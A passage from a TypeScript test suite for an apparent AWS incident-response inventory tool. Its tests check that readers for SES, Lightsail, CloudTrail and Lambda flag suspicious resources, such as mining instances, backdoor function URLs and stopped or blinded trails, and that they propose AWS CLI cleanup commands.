    ses.on(GetIdentityVerificationAttributesCommand).callsFake((input: { Identities: string[] }) => ({
      VerificationAttributes: Object.fromEntries(
        input.Identities.map((id) => [id, { VerificationStatus: 'Success' }]),
      ),
    }));

    const result = await readSes(ctx({ ses: client }));

    expect(result.complete).toBe(true);
    expect(ses).toHaveReceivedCommandTimes(GetIdentityVerificationAttributesCommand, 2);
    expect(result.items).toHaveLength(121);
    expect(result.items.at(-1)).toMatchObject({
      type: 'identity',
      id: 'example.org',
      details: { identityType: 'domain', verificationStatus: 'Success' },
      cleanup: `aws ses delete-identity --region ${REGION} --identity example.org`,
    });
    // A sandboxed Region that sent nothing is not reported, and not asked more.
    expect(ses).not.toHaveReceivedCommand(GetAccountSendingEnabledCommand);
  });

  it('reports a Region with production access as a sending item', async () => {
    ses.on(ListIdentitiesCommand).resolves({ Identities: [] });
    ses.on(GetSendQuotaCommand).resolves({ Max24HourSend: 50_000, SentLast24Hours: 12_000, MaxSendRate: 14 });
    ses.on(GetAccountSendingEnabledCommand).resolves({ Enabled: true });

    const [sending] = (await readSes(ctx({ ses: client }))).items;

    expect(sending).toMatchObject({
      type: 'sending',
      details: { productionAccess: true, sentLast24Hours: 12_000, sendingEnabled: true },
      cleanup: `aws ses update-account-sending-enabled --region ${REGION} --no-enabled`,
    });
  });
});

describe('Lightsail reader', () => {
  const client = new LightsailClient({ region: REGION, credentials });
  const lightsail = mockClient(client);

  beforeEach(() => lightsail.reset());

  it('follows nextPageToken and prices every instance, stopped ones too', async () => {
    lightsail
      .on(GetInstancesCommand, { pageToken: undefined })
      .resolves({
        instances: [{ name: 'miner-1', bundleId: '2xlarge_3_0', createdAt: NEW, state: { name: 'running' } }],
        nextPageToken: 'p2',
      })
      .on(GetInstancesCommand, { pageToken: 'p2' })
      .resolves({
        instances: [{ name: 'miner-2', bundleId: 'nano_3_0', createdAt: OLD, state: { name: 'stopped' } }],
      });

    const result = await readLightsail(ctx({ lightsail: client }));

    expect(result.complete).toBe(true);
    expect(result.items.map((i) => [i.id, i.estimatedHourlyUsd])).toEqual([
      ['miner-1', 0.2204],
      ['miner-2', 0.0067],
    ]);
    expect(result.items[0].cleanup).toBe(
      `aws lightsail delete-instance --region ${REGION} --instance-name miner-1`,
    );
  });

  it('skips Regions Lightsail is not offered in', async () => {
    const result = await readLightsail(ctx({ lightsail: client }, 'me-central-1'));

    expect(result.skipped).toContain('not offered');
    expect(lightsail).not.toHaveReceivedAnyCommand();
  });

  it('records a refusal', async () => {
    lightsail.on(GetInstancesCommand).rejects(awsError('AccessDeniedException', 403));

    const result = await readLightsail(ctx({ lightsail: client }));

    expect(result).toMatchObject({ complete: false, items: [] });
    expect(result.error).toContain('lightsail:GetInstances: AccessDeniedException');
  });
});

describe('CloudTrail guard rails', () => {
  const client = new CloudTrailClient({ region: 'us-east-1', credentials });
  const cloudtrail = mockClient(client);
  const arn = (name: string, region = 'us-east-1') => `arn:aws:cloudtrail:${region}:${ACCOUNT}:trail/${name}`;

  beforeEach(() => {
    cloudtrail.reset();
    cloudtrail.on(GetTrailStatusCommand).resolves({ IsLogging: true });
    cloudtrail
      .on(GetEventSelectorsCommand)
      .resolves({ EventSelectors: [{ IncludeManagementEvents: true, ReadWriteType: 'All' }] });
  });

  it('reports each trail of its home Region with its state', async () => {
    cloudtrail.on(DescribeTrailsCommand).resolves({
      trailList: [
        { Name: 'org', TrailARN: arn('org'), HomeRegion: 'us-east-1', IsMultiRegionTrail: true },
        { Name: 'stopped', TrailARN: arn('stopped'), HomeRegion: 'us-east-1' },
        { Name: 'shadow', TrailARN: arn('shadow', 'eu-west-1'), HomeRegion: 'eu-west-1' },
      ],
    });
    cloudtrail
      .on(GetTrailStatusCommand, { Name: arn('stopped') })
      .resolves({ IsLogging: false, StopLoggingTime: NEW });

    const result = await readCloudTrail(ctx({ cloudtrail: client }, 'us-east-1'));

    expect(cloudtrail).toHaveReceivedCommandWith(DescribeTrailsCommand, { includeShadowTrails: false });
    expect(result.items.map((i) => [i.id, i.details?.status])).toEqual([
      ['org', 'ok'],
      ['stopped', 'off'],
    ]);
    const stopped = result.items[1];
    expect(stopped).toMatchObject({ service: 'cloudtrail', type: 'guard-rail', arn: arn('stopped') });
    expect(stopped.details?.problems).toEqual([`logging is stopped since ${NEW.toISOString()}`]);
    expect(stopped.cleanup).toBe(`aws cloudtrail start-logging --region us-east-1 --name ${arn('stopped')}`);
    expect(result.items[0].cleanup).toBe('# nothing to remove');
  });

  it('sees a trail blinded by event selectors and restores management events, keeping data events', async () => {
    cloudtrail
      .on(DescribeTrailsCommand)
      .resolves({ trailList: [{ Name: 't', TrailARN: arn('t'), HomeRegion: 'us-east-1' }] });
    const dataSelector = {
      IncludeManagementEvents: false,
      ReadWriteType: 'All' as const,
      DataResources: [{ Type: 'AWS::S3::Object', Values: ['arn:aws:s3'] }],
    };
    cloudtrail.on(GetEventSelectorsCommand).resolves({ EventSelectors: [dataSelector] });

    const [trail] = (await readCloudTrail(ctx({ cloudtrail: client }, 'us-east-1'))).items;

    expect(trail.details).toMatchObject({ status: 'off', problems: ['management events are not recorded'] });
    expect(trail.cleanup).toBe(
      `aws cloudtrail put-event-selectors --region us-east-1 --trail-name ${arn('t')} --event-selectors ` +
        `'${JSON.stringify([{ ...dataSelector, IncludeManagementEvents: true }])}'`,
    );
  });

  it('judges advanced selectors and read-only management selectors', () => {
    expect(
      managementCoverage(undefined, [{ FieldSelectors: [{ Field: 'eventCategory', Equals: ['Data'] }] }])
        .problems,
    ).toEqual(['management events are not recorded']);
    const readOnly = managementCoverage(undefined, [
      {
        FieldSelectors: [
          { Field: 'eventCategory', Equals: ['Management'] },
          { Field: 'readOnly', Equals: ['true'] },
        ],
      },
    ]);
    expect(readOnly.problems).toEqual(['write management events are not recorded']);
    expect(readOnly.repair?.advancedEventSelectors).toHaveLength(2);
    expect(
      managementCoverage([{ ReadWriteType: 'ReadOnly', IncludeManagementEvents: true }], undefined).problems,
    ).toEqual(['write management events are not recorded']);
    expect(managementCoverage([{ ReadWriteType: 'WriteOnly' }], []).problems).toEqual([]);
  });
});

describe('Lambda reader', () => {
  const client = new LambdaClient({ region: REGION, credentials });
  const lambda = mockClient(client);
  const policy = (statements: unknown[]) => JSON.stringify({ Version: '2012-10-17', Statement: statements });

  beforeEach(() => {
    lambda.reset();
    lambda.on(ListFunctionUrlConfigsCommand).resolves({ FunctionUrlConfigs: [] });
    lambda.on(GetPolicyCommand).rejects(awsError('ResourceNotFoundException', 404));
  });

  it('lists changed functions, public URLs and statements open to everyone', async () => {
    lambda
      .on(ListFunctionsCommand, { Marker: undefined })
      .resolves({
        Functions: [{ FunctionName: 'backdoor', LastModified: '2026-11-21T08:00:00.000+0000' }],
        NextMarker: 'm2',
      })
      .on(ListFunctionsCommand, { Marker: 'm2' })
      .resolves({ Functions: [{ FunctionName: 'old', LastModified: '2025-03-01T08:00:00.000+0000' }] });
    lambda.on(ListFunctionUrlConfigsCommand, { FunctionName: 'backdoor' }).resolves({
      FunctionUrlConfigs: [
        {
          AuthType: 'NONE',
          FunctionUrl: 'https://abc.lambda-url.eu-west-1.on.aws/',
          FunctionArn: `arn:aws:lambda:${REGION}:${ACCOUNT}:function:backdoor:live`,
          CreationTime: '2026-11-21T08:05:00.000+0000',
          LastModifiedTime: undefined,
        },
      ],
    });
    lambda.on(GetPolicyCommand, { FunctionName: 'old' }).resolves({
      Policy: policy([
        { Sid: 'open', Effect: 'Allow', Principal: '*', Action: 'lambda:InvokeFunction' },
        {
          Sid: 's3',
          Effect: 'Allow',
          Principal: { Service: 's3.amazonaws.com' },
          Action: 'lambda:InvokeFunction',
        },
        {
          Sid: 'scoped',
          Effect: 'Allow',
          Principal: '*',
          Action: 'lambda:InvokeFunction',
          Condition: { ArnLike: { 'AWS:SourceArn': 'arn:aws:execute-api:*' } },
        },
      ]),
    });

    const result = await readLambda(ctx({ lambda: client }));

    expect(result.complete).toBe(true);
    expect(result.items.map((i) => `${i.type}:${i.id}`).sort()).toEqual([
      'function-permission:old/open',
      'function-url:backdoor:live',
      'function:backdoor',
    ]);
    const find = (type: string) => result.items.find((i) => i.type === type) as InventoryItem;
    expect(find('function').createdAt).toBe('2026-11-21T08:00:00.000Z');
    expect(find('function-url').cleanup).toBe(
      `aws lambda delete-function-url-config --region ${REGION} --function-name backdoor --qualifier live`,
    );
    expect(find('function-permission').cleanup).toBe(
      `aws lambda remove-permission --region ${REGION} --function-name old --statement-id open`,
    );
  });

  it('still reads function URLs when policies are refused', async () => {
    lambda.on(ListFunctionsCommand).resolves({
      Functions: ['a', 'b', 'c', 'd', 'e', 'f', 'g', 'h'].map((FunctionName) => ({
        FunctionName,
        LastModified: '2025-03-01T08:00:00.000+0000',
      })),
    });
    lambda.on(GetPolicyCommand).rejects(awsError('AccessDeniedException', 403));
    lambda.on(ListFunctionUrlConfigsCommand, { FunctionName: 'b' }).resolves({
      FunctionUrlConfigs: [
        {
          AuthType: 'NONE',
          FunctionUrl: 'https://b.lambda-url.eu-west-1.on.aws/',
          FunctionArn: `arn:aws:lambda:${REGION}:${ACCOUNT}:function:b`,
          CreationTime: '2026-11-21T08:05:00.000+0000',
          LastModifiedTime: undefined,
        },
      ],
    });

    const result = await readLambda(ctx({ lambda: client }));

    expect(result.items.map((i) => `${i.type}:${i.id}`)).toEqual(['function-url:b']);
    expect(result.error).toBe(
      'function policies: lambda:GetPolicy: AccessDeniedException: AccessDeniedException from the test',
    );
    // Four functions at a time: at most the calls already in flight were refused, not one per function.
    expect(lambda.commandCalls(GetPolicyCommand).length).toBeLessThanOrEqual(4);
  });

  it('publicStatements flags the statement behind a public function URL', () => {
    expect(
      publicStatements(
        policy([
          {
            Sid: 'FunctionURLAllowPublicAccess',
            Effect: 'Allow',
            Principal: { AWS: '*' },
            Action: 'lambda:InvokeFunctionUrl',
            Condition: { StringEquals: { 'lambda:FunctionUrlAuthType': 'NONE' } },
          },
        ]),
      ),
    ).toEqual([
      { sid: 'FunctionURLAllowPublicAccess', action: ['lambda:InvokeFunctionUrl'], viaFunctionUrl: true },
    ]);
    expect(publicStatements('{')).toEqual([]);
  });
});

describe('inventoryRegion', () => {
  const ec2Client = new EC2Client({ region: REGION, credentials });
  const sesClient = new SESClient({ region: REGION, credentials });
  const lightsailClient = new LightsailClient({ region: REGION, credentials });
  const ec2 = mockClient(ec2Client);
  const ses = mockClient(sesClient);
  const lightsail = mockClient(lightsailClient);

  beforeEach(() => {
    ec2.reset();
    ses.reset();
    lightsail.reset();
  });

  it('runs the readers a few at a time and records what it could not read', async () => {
    let inFlight = 0;
    let most = 0;
    const slow =
      <T>(value: T) =>
      async () => {
        inFlight += 1;
        most = Math.max(most, inFlight);
        await new Promise((r) => setTimeout(r, 5));
        inFlight -= 1;
        return value;
      };
    ec2.on(DescribeInstancesCommand).callsFake(slow({ Reservations: [] }));
    ec2.on(DescribeSpotInstanceRequestsCommand).resolves({});
    ec2.on(DescribeKeyPairsCommand).resolves({});
    ec2.on(DescribeSecurityGroupsCommand).resolves({});
    ec2.on(DescribeImagesCommand).resolves({});
    ec2.on(DescribeSnapshotsCommand).resolves({});
    ec2.on(DescribeVolumesCommand).resolves({});
    ses.on(ListIdentitiesCommand).callsFake(slow({ Identities: [] }));
    ses.on(GetSendQuotaCommand).resolves({});
    lightsail.on(GetInstancesCommand).callsFake(slow({ instances: [] }));

    const results = await inventoryRegion(
      REGION,
      ['ec2', 'ses', 'lightsail', 'guardduty', 'lambda', 'quantum'],
      {
        accountId: ACCOUNT,
        since: SINCE,
        clientsFor: () => ({ ec2: ec2Client, ses: sesClient, lightsail: lightsailClient }),
        concurrency: 2,
      },
    );

    expect(most).toBe(2);
    expect(results.map((r) => [r.service, r.complete, r.error])).toEqual([
      ['ec2', true, undefined],
      ['ses', true, undefined],
      ['lightsail', true, undefined],
      ['guardduty', false, 'no guardduty client was provided'],
      ['lambda', false, 'no lambda client was provided'],
      ['quantum', false, 'not inventoried: no reader for quantum yet'],
    ]);
  });

  it('records a reader that fails outright and keeps the others', async () => {
    ec2.on(DescribeInstancesCommand).rejects(awsError('InvalidParameterCombination'));
    lightsail.on(GetInstancesCommand).resolves({ instances: [{ name: 'n', bundleId: 'nano_3_0' }] });

    const results = await inventoryRegion(REGION, ['ec2', 'lightsail'], {
      accountId: ACCOUNT,
      since: SINCE,
      clientsFor: () => ({ ec2: ec2Client, lightsail: lightsailClient }),
    });

    expect(results[0]).toMatchObject({
      service: 'ec2',
      complete: false,
      error: expect.stringContaining('reader failed: InvalidParameterCombination'),
    });
    expect(results[1]).toMatchObject({
      service: 'lightsail',
      complete: true,
      items: [expect.objectContaining({ id: 'n' })],
    });
  });

  it('mapLimit keeps the order of results', async () => {
    expect(await mapLimit([3, 1, 2], 2, async (n) => n * 10)).toEqual([30, 10, 20]);
    expect(await mapLimit([], 4, async (n: number) => n)).toEqual([]);
  });

  it('mapLimit starts nothing after a failure and throws once the calls in flight are done', async () => {
    const started: number[] = [];
    let settled = 0;
    const run = mapLimit([1, 2, 3, 4, 5], 2, async (n) => {
      started.push(n);
      await new Promise((r) => setTimeout(r, n === 1 ? 1 : 10));
      settled += 1;
      if (n === 1) throw new Error('boom');
      return n;
    });

    await expect(run).rejects.toThrow('boom');
    expect(started).toEqual([1, 2]);
    expect(settled).toBe(2);
  });
});
